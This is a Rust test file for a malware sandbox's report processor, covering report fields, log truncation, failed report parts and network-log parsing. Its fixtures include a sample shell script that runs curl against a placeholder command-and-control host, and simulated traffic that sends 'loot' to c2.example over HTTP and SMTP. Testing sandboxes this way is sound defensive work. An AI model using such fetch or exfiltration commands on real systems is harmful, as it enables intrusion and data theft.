//! Whole reports, and those of which a part failed.

use std::fs;

use serde_json::json;
use store::sandbox::{Category, Guest, Sample, Stamp, Status};

use super::*;
use crate::results::Analyses;

fn task(sample: Option<Sample>) -> Task {
    let guest = Guest {
        id: 1,
        task_id: 7,
        status: "stopped".into(),
        name: "linux1".into(),
        label: "linux-1".into(),
        manager: "QEMU".into(),
        started_on: Stamp(1_932_884_405_000_000),
        shutdown_on: Some(Stamp(1_932_884_409_500_000)),
    };
    let is_file = sample.is_some();
    Task {
        id: 7,
        category: if is_file { Category::File } else { Category::Url },
        target: if is_file { "/uploads/7/demo.sh".into() } else { "http://x.example/".into() },
        package: Some("shell".into()),
        options: Some("route=drop".into()),
        owner: "ada".into(),
        platform: Some("linux".into()),
        added_on: Stamp(1_932_884_400_000_000),
        started_on: Some(Stamp(1_932_884_405_000_000)),
        completed_on: Some(Stamp(1_932_884_410_000_000)),
        status: Status::Completed,
        sample_id: sample.as_ref().map(|sample| sample.id),
        sample,
        guest: Some(guest),
        errors: vec!["no screenshots".into()],
        route: Some("drop".into()),
        duration: 4,
        ..crate::example::task()
    }
}

fn read(folder: &Folder) -> Json {
    serde_json::from_reader(folder.file(REPORT).unwrap()).unwrap()
}

#[tokio::test]
async fn a_report_has_all_that_consumers_index() {
    let dir = tempfile::tempdir().unwrap();
    let samples = Samples::open(dir.path()).unwrap();
    let mut receiving = samples.receive(1000);
    receiving.push(bytes::Bytes::from_static(b"#!/bin/sh\ncurl http://c2.example/p\n")).await.unwrap();
    let received = receiving.finish().await.unwrap();
    let sample = Sample { id: 3, digests: received.digests.clone() };
    samples.keep(received).unwrap();
    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
    let at = |name: &str| folder.path().join(name);
    fs::write(at("files/0123456789abcdef_x.txt"), "dropped").unwrap();
    fs::write(
        at("files.json"),
        "{\"path\":\"files/0123456789abcdef_x.txt\",\"filepath\":\"/tmp/x.txt\",\"pids\":[44]}\nbroken\n",
    )
    .unwrap();
    fs::write(at("shots/0001.jpg"), "picture").unwrap();
    fs::write(at("analysis.log"), b"one\ntwo \xff\n").unwrap();
    let task = task(Some(sample));
    assert_eq!(process(&Case { task: &task, folder: &folder, samples: &samples }).unwrap(), [""; 0]);
    let report = read(&folder);
    let keys: Vec<&String> = report.as_object().unwrap().keys().collect();
    assert_eq!(
        keys,
        [
            "info",
            "target",
            "behavior",
            "network",
            "dropped",
            "screenshots",
            "strings",
            "metadata",
            "signatures",
            "debug"
        ]
    );
    let info = &report["info"];
    assert_eq!((&info["started"], &info["ended"]), (&json!(1_932_884_405.0), &json!(1_932_884_410.0)));
    assert_eq!(
        (&info["score"], &info["duration"], &info["machine"]["manager"]),
        (&json!(0.0), &json!(4), &json!("QEMU"))
    );
    assert_eq!(info["machine"]["shutdown_on"], "2031-04-02 08:20:09");
    let file = &report["target"]["file"];
    assert_eq!((&file["name"], &file["path"]), (&json!("demo.sh"), &json!("analyses/7/binary")));
    assert_eq!(file["urls"], json!(["http://c2.example/p"]));
    for key in ["processes", "processtree", "generic"] {
        assert_eq!(report["behavior"][key], json!([]), "{key}");
    }
    let dropped = &report["dropped"][0];
    assert_eq!((&dropped["filepath"], &dropped["pids"]), (&json!("/tmp/x.txt"), &json!([44])));
    assert_eq!(dropped["path"], "analyses/7/files/0123456789abcdef_x.txt");
    assert_eq!(report["screenshots"], json!([{"path": "analyses/7/shots/0001.jpg", "ocr": ""}]));
    assert_eq!(report["strings"], json!(["#!/bin/sh", "curl http://c2.example/p"]));
    assert_eq!(
        (&report["debug"]["log"], &report["debug"]["errors"]),
        (&json!(["one", "two \\xff"]), &json!(["no screenshots"]))
    );
    assert_eq!(report["metadata"]["output"]["dropped"][0]["dirname"], "files");
    let page = fs::read_to_string(at("reports/report.html")).unwrap();
    for shown in
        ["demo.sh", "1 error<", "no screenshots", "/tmp/x.txt", "one\ntwo \\xff\n", "http://c2.example/p"]
    {
        assert!(page.contains(shown), "{shown}");
    }
}

#[test]
fn a_log_that_is_too_long_has_its_beginning_and_its_end() {
    let dir = tempfile::tempdir().unwrap();
    let samples = Samples::open(dir.path()).unwrap();
    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
    let log = format!("first\n{}last\n", "a line in between\n".repeat(400_000));
    fs::write(folder.path().join("analysis.log"), &log).unwrap();
    process(&Case { task: &task(None), folder: &folder, samples: &samples }).unwrap();
    let report = read(&folder);
    let lines: Vec<&str> =
        report["debug"]["log"].as_array().unwrap().iter().map(|line| line.as_str().unwrap()).collect();
    assert_eq!((lines[0], lines[lines.len() - 1]), ("first", "last"));
    let told = format!("[{} bytes of this log are left out]", log.len() - (4 << 20));
    assert_eq!(lines.iter().filter(|line| **line == told).count(), 1);
}

#[test]
fn a_page_that_cannot_be_written_is_an_error_and_no_lost_report() {
    let dir = tempfile::tempdir().unwrap();
    let samples = Samples::open(dir.path()).unwrap();
    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
    fs::create_dir(folder.path().join("reports/report.html")).unwrap();
    let task = task(None);
    let errors = process(&Case { task: &task, folder: &folder, samples: &samples }).unwrap();
    assert!(
        errors.len() == 1 && errors[0].starts_with("the page of the report was not written: "),
        "{errors:?}"
    );
    let report = read(&folder);
    assert_eq!(report["debug"]["errors"], json!(["no screenshots", errors[0]]));
    assert_eq!(report["target"]["url"], "http://x.example/");
}

#[test]
fn a_part_that_fails_is_named_and_the_others_are_there() {
    let dir = tempfile::tempdir().unwrap();
    let samples = Samples::open(dir.path()).unwrap();
    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
    fs::write(folder.path().join("dump.pcap"), "this is no capture, whatever its name says").unwrap();
    let task = task(None);
    let errors = process(&Case { task: &task, folder: &folder, samples: &samples }).unwrap();
    assert_eq!(errors, ["processing of network failed: this is no capture"]);
    let report = read(&folder);
    assert_eq!(
        (&report["network"]["http"], &report["target"]["url"]),
        (&json!([]), &json!("http://x.example/"))
    );
    assert_eq!(
        report["debug"]["errors"],
        json!(["no screenshots", "processing of network failed: this is no capture"])
    );
}

#[test]
fn what_the_network_told_is_in_the_report_once() {
    let dir = tempfile::tempdir().unwrap();
    let samples = Samples::open(dir.path()).unwrap();
    let folder = Analyses::open(dir.path()).unwrap().create(7).unwrap();
    let flow = r#""flow":{"src":"10.0.2.15","sport":4000,"dst":"198.18.4.2","dport":8443}"#;
    let http = format!(
        r#"{{"time":1,"event":"http",{flow},"is_secure":true,"method":"POST","host":"c2.example","target":"/up?x=1","version":1,"user-agent":"","user_agent":"evil","request":"UE9TVCAvdXA=","request_body":{{"data":"bG9vdA==","length":9}},"status":200,"response":"SFRUUC8xLjEgMjAwIE9L","response_body":"b2s="}}"#
    );
    let smtp = format!(
        r#"{{"time":2,"event":"smtp",{flow},"is_secure":false,"banner":"220","hostname":"pc","mail_from":"a@b","mail_to":["c@d"],"auth_type":"PLAIN","username":"u","password":"p","message":{{"data":"U3ViamVjdDogbG9vdA0KIGFnYWluDQoNCmJvZHk=","length":29}},"raw":"SEVMTw=="}}"#
    );
    let irc = format!(r##"{{"time":3,"event":"irc",{flow},"command":"JOIN","params":"#c"}}"##);
    let lines = [&http, &http, "no line of a log", &smtp, &irc, r#"{"time":4,"event":"cut"}"#, &http[..90]];
    fs::write(folder.path().join("logs/network.jsonl"), lines.join("\n")).unwrap();
    let task = task(None);
    let case = Case { task: &task, folder: &folder, samples: &samples };
    // Twice, as when results are processed again.
    for _ in 0..2 {
        assert_eq!(process(&case).unwrap(), Vec::<String>::new());
    }
    let network = &read(&folder)["network"];
    assert_eq!((network["http_ex"].as_array().unwrap().len(), &network["log_cut"]), (0, &json!(true)));
    let entry = &network["https_ex"][1];
    assert_eq!(
        (&entry["uri"], &entry["status"], &entry["dport"]),
        (&json!("/up?x=1"), &json!(200), &json!(8443))
    );
    assert_eq!(entry["req"]["cut_from"], 9);
    let path = entry["req"]["path"].as_str().unwrap();
    assert_eq!(
        fs::read_to_string(folder.path().join(path.strip_prefix("analyses/7/").unwrap())).unwrap(),
        "loot"
    );
    assert!(path.ends_with(entry["req"]["sha1"].as_str().unwrap()), "{path}");
    let plain = &network["http"][0];
    assert_eq!((&plain["uri"], &plain["count"]), (&json!("https://c2.example:8443/up?x=1"), &json!(2)));
    let mail = &network["smtp_ex"][0]["req"];
    assert_eq!((&mail["headers"]["Subject"], &mail["mail_body"]), (&json!("loot again"), &json!("body")));
    assert_eq!(network["smtp"], json!([{"dst": "198.18.4.2", "raw": "HELO"}]));
    assert_eq!((&network["irc"][0]["type"], &network["irc"][0]["params"]), (&json!("client"), &json!("#c")));
}
